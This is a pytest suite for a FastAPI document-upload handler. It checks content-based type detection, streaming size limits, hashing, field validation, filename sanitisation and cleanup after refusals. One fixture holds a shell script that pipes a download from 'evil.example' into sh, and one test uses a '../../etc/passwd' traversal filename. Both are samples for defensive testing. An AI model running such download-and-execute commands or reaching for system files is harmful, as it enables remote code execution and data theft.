"""receive_document on a real ASGI app: type by content, size while streaming, the hash, the
fields, and nothing left in the store after a refusal."""

from __future__ import annotations

import hashlib
import io
import struct
import uuid
import zlib
from collections.abc import AsyncIterator, Iterator, Mapping
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi import FastAPI, Request

from mpp_shared.blobstore import BlobStore, LocalDiskBlobStore
from mpp_shared.problems import Problem, install_problem_handlers
from mpp_shared.uploads import (
    MULTIPART_OVERHEAD,
    UploadRules,
    receive_document,
)

BOUNDARY = "----mpp-test-boundary-7MA4YWxkTrZu0gW"
LIMIT = 1024 * 1024
ACCEPTED = ("application/pdf", "image/png", "image/jpeg")
KEY = "applications/app-1/doc-1"

PDF = (
    b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
    + b"0" * 5000
    + b"%%EOF\n"
)
SHELL = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00\x00\xff\x00" * 2)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def _jpeg() -> bytes:
    image = pytest.importorskip("PIL.Image")
    out = io.BytesIO()
    image.new("RGB", (16, 16), "red").save(out, "JPEG")
    return out.getvalue()


def _part_head(name: str, filename: str | None = None, content_type: str | None = None) -> bytes:
    disposition = f'form-data; name="{name}"'
    if filename is not None:
        disposition += f'; filename="{filename}"'
    lines = [f"--{BOUNDARY}", f"Content-Disposition: {disposition}"]
    if content_type:
        lines.append(f"Content-Type: {content_type}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def multipart(
    *parts: tuple[str, bytes] | tuple[str, bytes, str, str],
) -> bytes:
    """``(name, value)`` text parts and ``(name, data, filename, content_type)`` file parts."""
    body = b""
    for part in parts:
        if len(part) == 2:
            name, value = part
            body += _part_head(name) + value + b"\r\n"
        else:
            name, data, filename, content_type = part
            body += _part_head(name, filename, content_type) + data + b"\r\n"
    return body + f"--{BOUNDARY}--\r\n".encode()


HEADERS = {"content-type": f"multipart/form-data; boundary={BOUNDARY}"}


def make_app(store: BlobStore, **options: Any) -> FastAPI:
    app = FastAPI()
    install_problem_handlers(app)

    @app.post("/documents", status_code=201)
    async def upload(request: Request) -> dict[str, Any]:
        arguments: dict[str, Any] = {
            "max_bytes": LIMIT,
            "accepted_types": ACCEPTED,
            "store": store,
            "key": KEY,
            **options,
        }
        document = await receive_document(request, **arguments)
        return {
            "filename": document.filename,
            "size": document.size,
            "sha256": document.sha256,
            "content_type": document.content_type,
            "fields": document.fields,
        }

    return app


@pytest.fixture
def store(tmp_path: Path) -> BlobStore:
    return LocalDiskBlobStore(tmp_path / "blobs")


@pytest.fixture
async def client(store: BlobStore) -> AsyncIterator[httpx.AsyncClient]:
    transport = httpx.ASGITransport(app=make_app(store))
    async with httpx.AsyncClient(transport=transport, base_url="http://test") as http:
        yield http


async def _post(http: httpx.AsyncClient, body: bytes, **headers: str) -> httpx.Response:
    return await http.post("/documents", content=body, headers={**HEADERS, **headers})


def _assert_problem(response: httpx.Response, status: int, code: str) -> dict[str, Any]:
    assert response.status_code == status, response.text
    assert response.headers["content-type"] == "application/problem+json"
    body: dict[str, Any] = response.json()
    assert body["code"] == code
    return body


@pytest.mark.parametrize(
    ("data", "filename", "declared", "detected"),
    [
        (PDF, "surat pengantar.pdf", "application/pdf", "application/pdf"),
        (_png(), "ktp.png", "image/png", "image/png"),
        ("jpeg", "foto.jpg", "image/jpeg", "image/jpeg"),
        # The declared type and the name do not matter: the content does.
        (_png(), "scan.pdf", "application/pdf", "image/png"),
    ],
)
async def test_an_accepted_file_is_stored_whole_with_its_hash(
    client: httpx.AsyncClient,
    store: BlobStore,
    data: bytes | str,
    filename: str,
    declared: str,
    detected: str,
) -> None:
    content = _jpeg() if data == "jpeg" else data
    assert isinstance(content, bytes)
    body = multipart(("requirement_code", b"ktp"), ("file", content, filename, declared))
    response = await _post(client, body)
    assert response.status_code == 201, response.text
    assert response.json() == {
        "filename": filename,
        "size": len(content),
        "sha256": hashlib.sha256(content).hexdigest(),
        "content_type": detected,
        "fields": {"requirement_code": "ktp"},
    }
    reader = await store.open(KEY)
    assert reader.content_type == detected
    assert await reader.read_all() == content


async def test_a_shell_script_named_and_declared_pdf_is_refused(
    client: httpx.AsyncClient, store: BlobStore
) -> None:
    body = multipart(("requirement_code", b"ktp"), ("file", SHELL, "surat.pdf", "application/pdf"))
    problem = _assert_problem(await _post(client, body), 422, "unsupported_type")
    assert problem["accepted_types"] == sorted(ACCEPTED)
    assert not await store.exists(KEY)


@pytest.mark.parametrize(
    "content",
    [
        b" %PDF-1.7\n" + b"x" * 100,  # a PDF must start with %PDF-, not merely contain it
        b"%PDF1.7\n",
        b"\x89PNG\r\n" + b"x" * 100,  # a cut signature
        b"PK\x03\x04" + b"\x00" * 100,  # a ZIP is not a PDF
        b"",
    ],
)
async def test_content_that_only_looks_like_an_accepted_type_is_refused(
    client: httpx.AsyncClient, store: BlobStore, content: bytes
) -> None:
    body = multipart(("requirement_code", b"ktp"), ("file", content, "x.pdf", "application/pdf"))
    _assert_problem(await _post(client, body), 422, "unsupported_type")
    assert not await store.exists(KEY)


async def test_a_png_is_refused_where_only_pdf_is_accepted(store: BlobStore) -> None:
    app = make_app(store, accepted_types=["application/pdf"])
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://t") as c:
        body = multipart(("requirement_code", b"ktp"), ("file", _png(), "x.png", "image/png"))
        problem = _assert_problem(await _post(c, body), 422, "unsupported_type")
    assert problem["accepted_types"] == ["application/pdf"]
    assert not await store.exists(KEY)


class CountingBody:
    """A request body that counts what the server pulled: a file of ``file_size`` bytes."""

    def __init__(self, file_size: int, *, chunk: int = 16 * 1024) -> None:
        self.file_size = file_size
        self.chunk = chunk
        self.pulled = 0

    def _pieces(self) -> Iterator[bytes]:
        yield _part_head("requirement_code") + b"ktp\r\n"
        yield _part_head("file", "big.pdf", "application/pdf")
        yield b"%PDF-1.7\n"
        sent = 9
        while sent < self.file_size:
            size = min(self.chunk, self.file_size - sent)
            yield b"0" * size
            sent += size
        yield f"\r\n--{BOUNDARY}--\r\n".encode()

    async def __aiter__(self) -> AsyncIterator[bytes]:
        for piece in self._pieces():
            self.pulled += len(piece)
            yield piece


async def test_an_oversize_stream_is_cut_off_near_the_limit_and_nothing_is_kept(
    client: httpx.AsyncClient, store: BlobStore
) -> None:
    body = CountingBody(50 * LIMIT)  # no Content-Length: the server learns the size as it reads
    response = await client.post("/documents", content=body, headers=HEADERS)
    problem = _assert_problem(response, 413, "file_too_large")
    assert problem["max_bytes"] == LIMIT
    assert body.pulled < LIMIT + 2 * body.chunk + 1024
    assert not await store.exists(KEY)


async def test_a_file_one_byte_over_the_limit_is_refused_and_one_at_it_is_stored(
    client: httpx.AsyncClient, store: BlobStore
) -> None:
    at_limit = PDF + b"0" * (LIMIT - len(PDF))
    over = at_limit + b"0"
    for content, status in ((over, 413), (at_limit, 201)):
        body = multipart(("requirement_code", b"ktp"), ("file", content, "a.pdf", "x/y"))
        response = await _post(client, body)
        assert response.status_code == status, response.text
    assert (await store.open(KEY)).size == LIMIT


async def test_a_declared_length_over_the_limit_is_refused_before_reading(
    client: httpx.AsyncClient, store: BlobStore
) -> None:
    body = CountingBody(50 * LIMIT)
    declared = str(50 * LIMIT + 1000)
    response = await client.post(
        "/documents", content=body, headers={**HEADERS, "content-length": declared}
    )
    _assert_problem(response, 413, "file_too_large")
    assert body.pulled == 0
    assert not await store.exists(KEY)


async def test_a_declared_length_within_the_envelope_overhead_is_read(
    client: httpx.AsyncClient,
) -> None:
    content = PDF + b"0" * (LIMIT - len(PDF))
    body = multipart(("requirement_code", b"ktp"), ("file", content, "a.pdf", "application/pdf"))
    assert LIMIT < len(body) < LIMIT + MULTIPART_OVERHEAD
    response = await _post(client, body)
    assert response.status_code == 201, response.text


@pytest.mark.parametrize(
    ("parts", "missing"),
    [
        ((("requirement_code", b"ktp"),), [["body", "file"]]),
        ((("file", PDF, "a.pdf", "application/pdf"),), [["body", "requirement_code"]]),
        ((("other", b"x"),), [["body", "file"], ["body", "requirement_code"]]),
        ((), [["body", "file"], ["body", "requirement_code"]]),
    ],
)
async def test_missing_fields_are_422_naming_them_and_nothing_is_kept(
    client: httpx.AsyncClient,
    store: BlobStore,
    parts: tuple[Any, ...],
    missing: list[list[str]],
) -> None:
    problem = _assert_problem(await _post(client, multipart(*parts)), 422, "validation_error")
    assert [error["loc"] for error in problem["errors"]] == missing
    assert not await store.exists(KEY)


async def test_a_field_after_the_file_is_read_too(client: httpx.AsyncClient) -> None:
    body = multipart(("file", PDF, "a.pdf", "application/pdf"), ("requirement_code", b"akta"))
    response = await _post(client, body)
    assert response.status_code == 201, response.text
    assert response.json()["fields"] == {"requirement_code": "akta"}


async def test_two_files_are_refused(client: httpx.AsyncClient, store: BlobStore) -> None:
    body = multipart(
        ("requirement_code", b"ktp"),
        ("file", PDF, "a.pdf", "application/pdf"),
        ("file", PDF, "b.pdf", "application/pdf"),
    )
    problem = _assert_problem(await _post(client, body), 422, "validation_error")
    assert problem["errors"][0]["loc"] == ["body", "file"]
    assert not await store.exists(KEY)


async def test_a_repeated_or_oversized_or_undecodable_text_field_is_422(
    client: httpx.AsyncClient,
) -> None:
    pdf = ("file", PDF, "a.pdf", "application/pdf")
    for parts in (
        (("requirement_code", b"a"), ("requirement_code", b"b"), pdf),
        (("requirement_code", b"k" * 5000), pdf),
        (("requirement_code", b"\xff\xfe"), pdf),
    ):
        problem = _assert_problem(await _post(client, multipart(*parts)), 422, "validation_error")
        assert problem["errors"][0]["loc"] == ["body", "requirement_code"]


async def test_a_request_that_is_not_multipart_is_415(client: httpx.AsyncClient) -> None:
    response = await client.post("/documents", json={"file": "JVBERi0="})
    _assert_problem(response, 415, "unsupported_media_type")


@pytest.mark.parametrize(
    ("headers", "body"),
    [
        ({"content-type": "multipart/form-data"}, b"--x\r\n"),  # no boundary
        (HEADERS, _part_head("requirement_code") + b"ktp"),  # ends inside a part
        (HEADERS, f"--{BOUNDARY}\r\nContent-Type: text/plain\r\n\r\nx\r\n".encode()),
        (HEADERS, b"garbage without any boundary"),
    ],
)
async def test_a_malformed_body_is_400_not_a_server_error(
    client: httpx.AsyncClient, store: BlobStore, headers: Mapping[str, str], body: bytes
) -> None:
    response = await client.post("/documents", content=body, headers=dict(headers))
    _assert_problem(response, 400, "malformed_multipart")
    assert not await store.exists(KEY)


async def test_a_broken_end_after_the_file_deletes_the_stored_blob(
    client: httpx.AsyncClient, store: BlobStore
) -> None:
    complete = multipart(("requirement_code", b"ktp"), ("file", PDF, "a.pdf", "application/pdf"))
    truncated = complete[: -len(f"--{BOUNDARY}--\r\n")] + _part_head("note") + b"unfinished"
    _assert_problem(await _post(client, truncated), 400, "malformed_multipart")
    assert not await store.exists(KEY)


async def test_rules_chosen_from_the_requirement_field(store: BlobStore) -> None:
    seen: list[dict[str, str]] = []

    async def rules_for(fields: Mapping[str, str]) -> UploadRules:
        seen.append(dict(fields))
        if fields["requirement_code"] == "foto":
            return UploadRules(max_bytes=100_000, accepted_types=["image/png"])
        if fields["requirement_code"] == "surat":
            return UploadRules(max_bytes=1000, accepted_types=["application/pdf"])
        raise Problem("No such requirement.", status=422, code="unknown_requirement")

    app = make_app(store, rules_for=rules_for)
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://t") as http:
        png = ("file", _png(), "a.png", "image/png")
        assert (await _post(http, multipart(("requirement_code", b"foto"), png))).status_code == 201
        assert seen == [{"requirement_code": "foto"}]
        # A PDF for the photo requirement, a PDF over the letter requirement's own limit.
        pdf = ("file", PDF, "a.pdf", "application/pdf")
        response = await _post(http, multipart(("requirement_code", b"foto"), pdf))
        _assert_problem(response, 422, "unsupported_type")
        response = await _post(http, multipart(("requirement_code", b"surat"), pdf))
        assert _assert_problem(response, 413, "file_too_large")["max_bytes"] == 1000
        response = await _post(http, multipart(("requirement_code", b"nope"), pdf))
        _assert_problem(response, 422, "unknown_requirement")
        # With rules by requirement, the requirement must come before the file.
        response = await _post(http, multipart(pdf, ("requirement_code", b"surat")))
        problem = _assert_problem(response, 422, "validation_error")
        assert problem["errors"][0]["loc"] == ["body", "requirement_code"]
    assert not await store.exists(KEY)  # the refusals after the first upload deleted it


async def test_the_filename_is_sanitised(client: httpx.AsyncClient) -> None:
    for raw, expected in (
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\ani\\ktp.pdf", "ktp.pdf"),
        ("ev\u202eil\u0007.pdf", "ev il .pdf"),
        (".hidden.pdf", "hidden.pdf"),
        ("", "document"),
        ("a" * 300 + ".pdf", "a" * 251 + ".pdf"),
    ):
        part = ("file", PDF, raw, "application/pdf")
        body = multipart(("requirement_code", b"ktp"), part)
        response = await _post(client, body)
        assert response.status_code == 201, response.text
        assert response.json()["filename"] == expected


async def test_a_file_part_without_a_filename_gets_a_default_name(
    client: httpx.AsyncClient,
) -> None:
    body = multipart(("requirement_code", b"ktp"), ("file", PDF))
    response = await _post(client, body)
    assert response.status_code == 201, response.text
    assert response.json()["filename"] == "document"


async def test_each_upload_goes_under_its_own_key(store: BlobStore) -> None:
    keys = [f"applications/{uuid.uuid4()}/{uuid.uuid4()}" for _ in range(2)]
    for key, content in zip(keys, (PDF, _png()), strict=True):
        app = make_app(store, key=key)
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://t") as http:
            part = ("file", content, "x", "application/octet-stream")
            response = await _post(http, multipart(("requirement_code", b"r"), part))
            assert response.status_code == 201, response.text
    assert [await (await store.open(key)).read_all() for key in keys] == [PDF, _png()]
